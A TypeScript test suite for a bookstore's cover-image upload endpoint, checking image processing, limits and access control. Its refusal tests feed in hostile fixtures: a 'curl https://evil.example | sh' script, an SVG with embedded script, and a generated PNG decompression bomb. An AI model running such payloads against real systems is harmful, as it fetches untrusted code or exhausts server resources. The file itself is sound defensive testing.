/**
 * Book cover uploads over real HTTP, on each database engine: an admin
 * uploads JPEG, PNG and WebP images (made with sharp here) as a browser
 * without JavaScript would (multipart form posts), and every kind of bad
 * file, every wrong person and every oversized body is refused with a
 * readable 4xx and nothing written to UPLOADS_DIR. Two instances share one
 * uploads folder, as they share EFS in production.
 */
import crypto from "node:crypto";
import fs from "node:fs/promises";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import zlib from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, enginesUnderTest, type TestDatabase } from "../helpers/databases";
import { createUser, insertBook } from "../helpers/fixtures";
import {
  locationOf,
  multipartBody,
  TestClient,
  textOf,
  type MultipartPart,
} from "../helpers/http-client";
import { startTestServer, type TestServer } from "../helpers/server";
import { filesUnder } from "../helpers/files";

const engines = await enginesUnderTest();

/**
 * Posts a multipart form as a browser submitting a page's form does
 * (TestClient sends URL-encoded text only), with the client's cookies.
 * `chunked` leaves out Content-Length, so only the server's streaming limit
 * can stop an oversized body.
 */
function postMultipart(
  client: TestClient,
  pathname: string,
  parts: MultipartPart[],
  { chunked = false, headers = {} }: { chunked?: boolean; headers?: Record<string, string> } = {},
): Promise<Response> {
  const { body, contentType } = multipartBody(parts);
  const cookie = [...client.cookies].map(([name, value]) => `${name}=${value}`).join("; ");
  const requestHeaders: Record<string, string> = {
    "Content-Type": contentType,
    Accept: "text/html",
    "Sec-Fetch-Mode": "navigate",
    ...(cookie ? { Cookie: cookie } : {}),
    ...(chunked ? {} : { "Content-Length": String(body.length) }),
    ...headers,
  };
  return new Promise((resolve, reject) => {
    const request = http.request(
      client.baseUrl + pathname,
      { method: "POST", headers: requestHeaders },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (chunk: Buffer) => chunks.push(chunk));
        res.on("error", reject);
        res.on("end", () => {
          const responseHeaders = new Headers();
          for (const [name, value] of Object.entries(res.headers)) {
            for (const one of Array.isArray(value) ? value : [value ?? ""]) {
              responseHeaders.append(name, one);
            }
          }
          resolve(
            new Response(Buffer.concat(chunks), {
              status: res.statusCode,
              headers: responseHeaders,
            }),
          );
        });
      },
    );
    request.on("error", reject);
    if (!chunked) return request.end(body);
    for (let offset = 0; offset < body.length; offset += 64 * 1024) {
      request.write(body.subarray(offset, offset + 64 * 1024));
    }
    request.end();
  });
}

/** A picture with some detail (smoothed noise), so files have realistic sizes. */
function artwork(width: number, height: number, background = "#a33") {
  return sharp({
    create: {
      width: 60,
      height: 90,
      channels: 3,
      background,
      noise: { type: "gaussian", mean: 120, sigma: 60 },
    },
  }).resize(width, height, { kernel: "cubic" });
}

/** A real PNG of 20000 × 20000 one-bit pixels in about 50 KB: 400 million pixels to decode. */
function decompressionBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const size = 20_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rows = zlib.deflateSync(Buffer.alloc(size * (1 + size / 8)), { level: 9 });
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    chunk("IHDR", header),
    chunk("IDAT", rows),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

const sha256 = (bytes: Uint8Array) => crypto.createHash("sha256").update(bytes).digest("hex");
const STORED_COVER = /^covers\/([0-9a-f]{64})\.webp$/;

describe.each(engines)("book covers over HTTP on %s", (engine) => {
  let t: TestDatabase;
  let server: TestServer;
  let admin: TestClient;
  const images = {} as Record<"jpeg" | "png" | "webp", Buffer>;
  let smallPng: Buffer;
  let otherJpeg: Buffer;

  beforeAll(async () => {
    t = await createTestDatabase(engine);
    server = await startTestServer(t.db);
    admin = await signIn(server, "admin");
    images.jpeg = await artwork(1200, 1800)
      .jpeg({ quality: 90 })
      // Rotated by its EXIF orientation, with a camera and where it was taken.
      .withMetadata({ orientation: 6 })
      .withExif({
        IFD0: { Make: "TestCam", Model: "Secret Phone" },
        IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 0/1" },
      })
      .toBuffer();
    images.png = await artwork(1200, 1800, "#3a3").png({ palette: true }).toBuffer();
    images.webp = await artwork(1200, 1800, "#33a").webp().toBuffer();
    smallPng = await artwork(300, 450, "#aa3").png().toBuffer();
    otherJpeg = await artwork(900, 1350, "#3aa").jpeg().toBuffer();
  });

  afterAll(async () => {
    await server?.close();
    await t?.destroy();
  });

  async function signIn(target: TestServer, role?: "admin" | "customer") {
    const user = await createUser(t.db, role ? { role } : {});
    const client = new TestClient(target.url);
    const res = await client.post("/login", { email: user.email, password: user.password });
    expect(res.status).toBe(302);
    return client;
  }

  const upload = (
    client: TestClient,
    bookId: number,
    file: { bytes: Uint8Array; filename?: string; type?: string },
    options?: Parameters<typeof postMultipart>[3],
  ) =>
    postMultipart(
      client,
      `/admin/books/${bookId}/cover`,
      [
        {
          name: "cover",
          filename: file.filename ?? "cover.bin",
          type: file.type ?? "application/octet-stream",
          bytes: file.bytes,
        },
        { name: "intent", value: "upload" },
      ],
      options,
    );

  const coverOf = async (bookId: number): Promise<string | null> =>
    (await t.db("books").where({ id: bookId }).first("coverPath")).coverPath;

  async function uploaded(client: TestClient, bookId: number, bytes: Uint8Array) {
    const res = await upload(client, bookId, { bytes, filename: "cover.img" });
    expect(res.status).toBe(302);
    expect(locationOf(res)).toBe(`/admin/books/${bookId}?notice=cover`);
    const coverPath = await coverOf(bookId);
    expect(coverPath).toMatch(STORED_COVER);
    return coverPath!;
  }

  const exists = (relative: string) =>
    fs.access(path.join(server.uploadsDir, relative)).then(
      () => true,
      () => false,
    );

  it("shows the cover page: the current cover and an upload form that works without JavaScript", async () => {
    const bookId = await insertBook(t.db, { title: "Pictureless" });
    const res = await admin.get(`/admin/books/${bookId}/cover`);
    expect(res.status).toBe(200);
    const html = await res.text();
    // React writes the attribute as encType; HTML attribute names ignore case.
    expect(html).toMatch(/<form[^>]*method="post"[^>]*enctype="multipart\/form-data"/i);
    const input = /<input[^>]*type="file"[^>]*>/.exec(html)?.[0] ?? "";
    expect(input).toContain('name="cover"');
    expect(input).toContain('accept="image/jpeg,image/png,image/webp"');
    const id = /id="([^"]+)"/.exec(input)?.[1];
    expect(html).toContain(`<label for="${id}">Cover image</label>`);
    expect(textOf(html)).toContain("Upload cover");
    expect(html).toContain(`src="/covers/${bookId}"`);
    expect(html).toMatch(new RegExp(`<a href="/admin/books/${bookId}">[^<]*Back to the book</a>`));
  });

  it.each(["jpeg", "png", "webp"] as const)(
    "stores a %s as a resized, metadata-free WebP named by its hash, served for a year",
    async (type) => {
      const title = `Quillcover${type}`;
      const bookId = await insertBook(t.db, { title });
      const coverPath = await uploaded(admin, bookId, images[type]);
      const stored = await fs.readFile(path.join(server.uploadsDir, coverPath));
      expect(coverPath).toBe(`covers/${sha256(stored)}.webp`);

      const input = await sharp(images[type]).metadata();
      const output = await sharp(stored).metadata();
      expect(output.format).toBe("webp");
      expect(output.exif).toBeUndefined();
      expect(output.xmp).toBeUndefined();
      expect(output.icc).toBeUndefined();
      if (type === "jpeg") {
        expect(input.exif?.length).toBeGreaterThan(0);
        expect(input.orientation).toBe(6);
        // Turned upright, then fitted: 1800 × 1200 as seen, into 800 × 1200.
        expect([output.width, output.height]).toEqual([800, 533]);
      } else {
        expect([output.width, output.height]).toEqual([800, 1200]);
      }

      const served = await fetch(`${server.url}/uploads/${coverPath}`);
      expect(served.status).toBe(200);
      expect(served.headers.get("content-type")).toBe("image/webp");
      expect(served.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
      expect(served.headers.get("x-content-type-options")).toBe("nosniff");
      expect(Buffer.from(await served.arrayBuffer()).equals(stored)).toBe(true);

      const [audit] = await t.db("auditEvents").where({ action: "book.cover", entityId: bookId });
      expect(JSON.parse(audit.before)).toEqual({ coverPath: null });
      expect(JSON.parse(audit.after)).toEqual({ coverPath });

      // The book's page and its card in the catalog show it.
      for (const page of [`/books/${bookId}`, `/books?q=${title}`]) {
        expect(await (await fetch(server.url + page)).text()).toContain(
          `src="/uploads/${coverPath}"`,
        );
      }
      // No temporary file is left beside it.
      expect((await filesUnder(server.uploadsDir)).filter((f) => /(^|\/)\./.test(f))).toEqual([]);
    },
  );

  it("never enlarges a small image", async () => {
    const bookId = await insertBook(t.db);
    const coverPath = await uploaded(admin, bookId, smallPng);
    const output = await sharp(path.join(server.uploadsDir, coverPath)).metadata();
    expect([output.width, output.height]).toEqual([300, 450]);
  });

  describe("refusals: a readable 4xx on the form, and nothing written", () => {
    const script = Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n");
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    );
    const cases: Array<
      [string, () => Promise<{ bytes: Uint8Array; filename: string; type: string }>, number, string]
    > = [
      [
        "a script renamed .png",
        async () => ({ bytes: script, filename: "cover.png", type: "image/png" }),
        415,
        "That file is not a JPEG, PNG or WebP image.",
      ],
      [
        "an SVG",
        async () => ({ bytes: svg, filename: "cover.svg", type: "image/svg+xml" }),
        415,
        "That file is not a JPEG, PNG or WebP image.",
      ],
      [
        "an empty file",
        async () => ({ bytes: Buffer.alloc(0), filename: "empty.png", type: "image/png" }),
        422,
        "That file is empty.",
      ],
      [
        "a truncated JPEG",
        async () => ({
          bytes: images.jpeg.subarray(0, Math.floor(images.jpeg.length / 2)),
          filename: "half.jpg",
          type: "image/jpeg",
        }),
        422,
        "it seems damaged or incomplete",
      ],
      [
        "a truncated PNG",
        async () => ({
          bytes: images.png.subarray(0, Math.floor(images.png.length / 2)),
          filename: "half.png",
          type: "image/png",
        }),
        422,
        "it seems damaged or incomplete",
      ],
      [
        "a decompression bomb (20000 × 20000 PNG in ~50 KB)",
        async () => ({ bytes: decompressionBomb(), filename: "bomb.png", type: "image/png" }),
        422,
        "That image has too many pixels",
      ],
      [
        "a real 6 MB PNG",
        async () => ({
          bytes: await artwork(1200, 1800).png().toBuffer(),
          filename: "huge.png",
          type: "image/png",
        }),
        413,
        "That file is too large: the limit is 5 MB.",
      ],
      [
        "no file at all",
        async () => ({ bytes: Buffer.alloc(0), filename: "", type: "application/octet-stream" }),
        400,
        "Choose a JPEG, PNG or WebP image to upload.",
      ],
    ];

    it.each(cases)("refuses %s", async (_name, make, status, message) => {
      const bookId = await insertBook(t.db);
      const before = await filesUnder(server.uploadsDir);
      const res = await upload(admin, bookId, await make());
      expect(res.status).toBe(status);
      const html = await res.text();
      expect(textOf(html)).toContain(message);
      // The error is on the file input, where a screen reader announces it.
      const input = /<input[^>]*type="file"[^>]*>/.exec(html)?.[0] ?? "";
      expect(input).toContain('aria-invalid="true"');
      const describedBy = /aria-describedby="([^"]+)"/.exec(input)?.[1].split(" ") ?? [];
      const errorBlock = describedBy
        .map((id) => new RegExp(`<div id="${id}"[^>]*>([\\s\\S]*?)</div>`).exec(html)?.[1] ?? "")
        .join(" ");
      expect(textOf(errorBlock)).toContain(message);

      expect(await filesUnder(server.uploadsDir)).toEqual(before);
      expect(await coverOf(bookId)).toBeNull();
      expect(await t.db("auditEvents").where({ entityId: bookId, action: "book.cover" })).toEqual(
        [],
      );
    });

    it("stops reading an oversized body sent without a length (chunked)", async () => {
      const bookId = await insertBook(t.db);
      const before = await filesUnder(server.uploadsDir);
      const bytes = Buffer.concat([images.png, crypto.randomBytes(6 * 1024 * 1024)]);
      const res = await upload(admin, bookId, { bytes, filename: "big.png" }, { chunked: true });
      expect(res.status).toBe(413);
      expect(textOf(await res.text())).toContain("That file is too large");
      expect(await filesUnder(server.uploadsDir)).toEqual(before);
      expect(await coverOf(bookId)).toBeNull();
    });

    it("refuses a body whose other parts are huge", async () => {
      const bookId = await insertBook(t.db);
      const before = await filesUnder(server.uploadsDir);
      for (const chunked of [false, true]) {
        const res = await postMultipart(
          admin,
          `/admin/books/${bookId}/cover`,
          [
            { name: "cover", filename: "small.png", type: "image/png", bytes: smallPng },
            { name: "intent", value: "upload".padEnd(7 * 1024 * 1024, " ") },
          ],
          { chunked },
        );
        expect(res.status).toBe(413);
        expect(textOf(await res.text())).toMatch(/too large|far larger than expected/);
      }
      const manyFields = Array.from({ length: 2000 }, (_, i) => ({
        name: `field${i}`,
        value: "x",
      }));
      const res = await postMultipart(admin, `/admin/books/${bookId}/cover`, [
        { name: "cover", filename: "small.png", type: "image/png", bytes: smallPng },
        ...manyFields,
      ]);
      expect(res.status).toBe(413);
      expect(await filesUnder(server.uploadsDir)).toEqual(before);
      expect(await coverOf(bookId)).toBeNull();
    });

    it("refuses a customer (403) and sends a guest to sign in, before reading the upload", async () => {
      const bookId = await insertBook(t.db);
      const before = await filesUnder(server.uploadsDir);
      const customer = await signIn(server, "customer");
      const forbidden = await upload(customer, bookId, { bytes: images.webp });
      expect(forbidden.status).toBe(403);
      expect(textOf(await forbidden.text())).toContain("This page is for the shop's staff only.");
      expect((await customer.get(`/admin/books/${bookId}/cover`)).status).toBe(403);

      const guest = new TestClient(server.url);
      const redirected = await upload(guest, bookId, { bytes: images.webp });
      expect(redirected.status).toBe(302);
      expect(locationOf(redirected)).toBe(
        `/login?redirectTo=${encodeURIComponent(`/admin/books/${bookId}/cover`)}`,
      );
      // An oversized one too: the answer arrives, the body is never stored.
      const big = await upload(guest, bookId, { bytes: crypto.randomBytes(7 * 1024 * 1024) });
      expect(big.status).toBe(302);
      const page = await guest.get(`/admin/books/${bookId}/cover`);
      expect(page.status).toBe(302);
      expect(locationOf(page)).toMatch(/^\/login\?/);

      expect(await filesUnder(server.uploadsDir)).toEqual(before);
      expect(await coverOf(bookId)).toBeNull();
    });

    it("refuses an upload posted from another site", async () => {
      const bookId = await insertBook(t.db);
      const before = await filesUnder(server.uploadsDir);
      const res = await upload(
        admin,
        bookId,
        { bytes: images.webp },
        { headers: { Origin: "https://evil.example" } },
      );
      expect(res.status).toBe(403);
      expect(await filesUnder(server.uploadsDir)).toEqual(before);
      expect(await coverOf(bookId)).toBeNull();
    });

    it("answers an unknown book with 404 before storing anything", async () => {
      const before = await filesUnder(server.uploadsDir);
      const res = await upload(admin, 999_999, { bytes: images.webp });
      expect(res.status).toBe(404);
      expect(await filesUnder(server.uploadsDir)).toEqual(before);
    });
  });

  describe("replacing and removing", () => {
    it("removes the old file when a cover is replaced, unless another book still uses it", async () => {
      const first = await insertBook(t.db);
      const second = await insertBook(t.db);
      const shared = await uploaded(admin, first, otherJpeg);
      // The same image on another book: one file, two references.
      expect(await uploaded(admin, second, otherJpeg)).toBe(shared);

      const replacement = await uploaded(admin, first, images.webp);
      expect(replacement).not.toBe(shared);
      expect(await exists(shared)).toBe(true); // the second book still shows it

      await uploaded(admin, second, images.png);
      expect(await exists(shared)).toBe(false); // nothing refers to it any more
      expect(await exists(replacement)).toBe(true);
    });

    it("keeps a file an offer's photo refers to", async () => {
      const bookId = await insertBook(t.db);
      const old = await uploaded(admin, bookId, smallPng);
      const seller = await createUser(t.db);
      await t.db("offers").insert({
        userId: seller.id,
        isbn: "9780141439518",
        title: "Offered",
        author: "Someone",
        condition: "good",
        askingPriceCents: 500,
        photoPath: old,
      });
      await uploaded(admin, bookId, otherJpeg);
      expect(await exists(old)).toBe(true);
    });

    it("removes a cover: the book falls back to its generated one, and the file goes", async () => {
      const bookId = await insertBook(t.db);
      const coverPath = await uploaded(
        admin,
        bookId,
        await artwork(400, 600, "#639").png().toBuffer(),
      );
      const page = await admin.get(`/admin/books/${bookId}/cover`);
      expect(textOf(await page.text())).toContain("Remove cover");

      const res = await admin.post(`/admin/books/${bookId}/cover`, { intent: "remove" });
      expect(res.status).toBe(302);
      expect(locationOf(res)).toBe(`/admin/books/${bookId}?notice=cover`);
      expect(await coverOf(bookId)).toBeNull();
      expect(await exists(coverPath)).toBe(false);
      const audits = await t
        .db("auditEvents")
        .where({ action: "book.cover", entityId: bookId })
        .orderBy("id");
      expect(JSON.parse(audits.at(-1).after)).toEqual({ coverPath: null });
      expect(await (await fetch(`${server.url}/books/${bookId}`)).text()).toContain(
        `src="/covers/${bookId}"`,
      );
    });
  });

  it("serves a cover uploaded through one instance from another sharing the folder", async () => {
    const shared = await fs.mkdtemp(path.join(os.tmpdir(), "bookstore-shared-uploads-"));
    const one = await startTestServer(t.db, { uploadsDir: shared });
    const two = await startTestServer(t.db, { uploadsDir: shared });
    try {
      const bookId = await insertBook(t.db);
      const client = await signIn(one, "admin");
      const res = await upload(client, bookId, { bytes: images.jpeg });
      expect(res.status).toBe(302);
      const coverPath = (await coverOf(bookId))!;
      for (const instance of [one, two]) {
        const served = await fetch(`${instance.url}/uploads/${coverPath}`);
        expect(served.status).toBe(200);
        expect(served.headers.get("content-type")).toBe("image/webp");
        expect(sha256(Buffer.from(await served.arrayBuffer()))).toBe(
          STORED_COVER.exec(coverPath)![1],
        );
        const page = await fetch(`${instance.url}/books/${bookId}`);
        expect(await page.text()).toContain(`src="/uploads/${coverPath}"`);
      }
    } finally {
      await one.close();
      await two.close();
      await fs.rm(shared, { recursive: true, force: true });
    }
  });
});
